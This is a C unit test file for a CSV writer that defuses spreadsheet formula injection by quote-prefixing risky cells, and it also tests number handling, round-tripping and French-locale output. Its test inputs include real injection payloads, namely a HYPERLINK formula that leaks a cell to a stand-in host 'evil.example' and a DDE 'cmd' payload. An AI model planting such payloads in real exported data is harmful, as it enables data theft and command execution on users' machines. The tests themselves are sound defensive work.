/* The CSV writer (csv_put_field) against CSV injection (OWASP): a cell a
 * spreadsheet would run as a formula is written as text, behind a single
 * quote; a number stays a number; what the writer wrote reads back to what it
 * was given (csv_parse, then csv_cell_text). */
#include "csv.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* The line csv_put_field writes for one cell, last of its line. */
static char *written(const char *text)
{
    char *out = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&out, &len);
    csv_put_field(f, text, true);
    fclose(f);
    return out;
}

static void expect_written(const char *text, const char *expected)
{
    char *out = written(text);
    cr_expect_str_eq(out, expected, "[%s] written as [%s], not [%s]", text, out, expected);
    free(out);
}

Test(csv_writer, the_issues_payloads_are_written_as_text)
{
    expect_written("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")",
                   "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Cliquez ici\"\")\"\r\n");
    expect_written("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"\r\n");
    expect_written("@SUM(1+1)", "\"'@SUM(1+1)\"\r\n");
    expect_written("-2+3", "\"'-2+3\"\r\n");
}

Test(csv_writer, every_formula_start_is_prefixed)
{
    expect_written("=1", "\"'=1\"\r\n");
    expect_written("+A1", "\"'+A1\"\r\n");
    expect_written("-A1", "\"'-A1\"\r\n");
    expect_written("@A1", "\"'@A1\"\r\n");
    expect_written("\t=1", "\"'\t=1\"\r\n");
    expect_written("\r=1", "\"'\r=1\"\r\n");
    expect_written("-", "\"'-\"\r\n");
    expect_written("+", "\"'+\"\r\n");
    expect_written("-1-1", "\"'-1-1\"\r\n");
    expect_written("+33 5 62 00 00 00", "\"'+33 5 62 00 00 00\"\r\n");
    expect_written("-1.", "\"'-1.\"\r\n");
    expect_written("-1e", "\"'-1e\"\r\n");
    expect_written("-0x10", "\"'-0x10\"\r\n");
}

Test(csv_writer, numbers_stay_numbers)
{
    expect_written("-0.58", "\"-0.58\"\r\n");
    expect_written("-30", "\"-30\"\r\n");
    expect_written("+33562000000", "\"+33562000000\"\r\n");
    expect_written("1e-05", "\"1e-05\"\r\n");
    expect_written("-2.5E+3", "\"-2.5E+3\"\r\n");
    expect_written("43.64616", "\"43.64616\"\r\n");
}

Test(csv_writer, other_text_is_written_as_it_is)
{
    expect_written("", "\"\"\r\n");
    expect_written("Médiathèque de Mirande", "\"Médiathèque de Mirande\"\r\n");
    expect_written("a=b", "\"a=b\"\r\n");
    expect_written(" =1", "\" =1\"\r\n");
    expect_written("'", "\"'\"\r\n");
    expect_written("'-5", "\"'-5\"\r\n");
    expect_written("'abc", "\"'abc\"\r\n");
}

Test(csv_writer, a_quote_before_a_formula_is_doubled_so_that_reading_undoes_it)
{
    expect_written("'=1", "\"''=1\"\r\n");
    expect_written("''@x", "\"'''@x\"\r\n");
}

Test(csv_writer, what_is_written_reads_back_to_what_was_given)
{
    const char *texts[] = {"=HYPERLINK(\"x\")",
                           "+cmd|' /C calc'!A0",
                           "@SUM(1+1)",
                           "-2+3",
                           "-0.58",
                           "+33562000000",
                           "'",
                           "'=1",
                           "''@x",
                           "'-5",
                           "'abc",
                           "\t\r\n",
                           "plain, with \"quotes\"",
                           ""};
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        char *out = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&out, &len);
        csv_put_field(f, texts[i], false);
        csv_put_field(f, "end", true);
        fclose(f);
        struct csv csv;
        size_t bad = 0;
        cr_assert_eq(csv_parse(out, len, ',', &csv, &bad), 0, "[%s]", out);
        cr_assert_eq(csv.count, 1);
        cr_assert_eq(csv.rows[0].count, 2);
        cr_expect_str_eq(csv_cell_text(csv.rows[0].fields[0]), texts[i], "[%s]", out);
        csv_free(&csv);
        free(out);
    }
}

Test(csv_writer, reading_takes_off_only_the_writers_quote)
{
    cr_expect_str_eq(csv_cell_text("'=1"), "=1");
    cr_expect_str_eq(csv_cell_text("''=1"), "'=1");
    cr_expect_str_eq(csv_cell_text("'abc"), "'abc");
    cr_expect_str_eq(csv_cell_text("'-5"), "'-5");
    cr_expect_str_eq(csv_cell_text("'"), "'");
    cr_expect_str_eq(csv_cell_text("=1"), "=1");
}

/* ---- the French style --------------------------------------------------------- */

static char *written_in(const struct csv_style *style, const char *const *cells, int n)
{
    char *out = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&out, &len);
    csv_begin(f, style);
    for (int i = 0; i < n; i++)
        csv_put_field_in(f, style, cells[i], i == n - 1);
    fclose(f);
    return out;
}

Test(csv_writer, french_semicolons_decimal_commas_and_a_byte_order_mark)
{
    static const char *const cells[] = {"59.5", "-0.58", "1e-05", "2025 : relevé", "=1+2", "3.6.1"};
    char *fr = written_in(&csv_french, cells, 6), *en = written_in(&csv_rfc4180, cells, 6);
    cr_expect_str_eq(fr, "\xEF\xBB\xBF\"59,5\";\"-0,58\";\"1e-05\";\"2025 : relevé\";\"'=1+2\";"
                         "\"3.6.1\"\r\n");
    cr_expect_str_eq(en, "\"59.5\",\"-0.58\",\"1e-05\",\"2025 : relevé\",\"'=1+2\",\"3.6.1\"\r\n");
    free(fr);
    free(en);
}

Test(csv_writer, the_style_follows_locale_then_accept_language)
{
    cr_expect_eq(csv_style_choose(NULL, NULL), &csv_rfc4180);
    cr_expect_eq(csv_style_choose("fr", "en"), &csv_french, "?locale= wins");
    cr_expect_eq(csv_style_choose("en", "fr"), &csv_rfc4180);
    cr_expect_null(csv_style_choose("de", NULL), "another locale is refused");
    cr_expect_eq(csv_style_choose(NULL, "fr"), &csv_french);
    cr_expect_eq(csv_style_choose(NULL, "fr-FR,fr;q=0.9,en;q=0.5"), &csv_french);
    cr_expect_eq(csv_style_choose(NULL, "en-GB,fr;q=0.8"), &csv_rfc4180);
    cr_expect_eq(csv_style_choose(NULL, "en;q=0.5, fr;q=0.9"), &csv_french, "q-values");
    cr_expect_eq(csv_style_choose(NULL, "fy, fr;q=0.1"), &csv_rfc4180, "fy is not French");
    cr_expect_eq(csv_style_choose(NULL, "FR-be"), &csv_french);
}
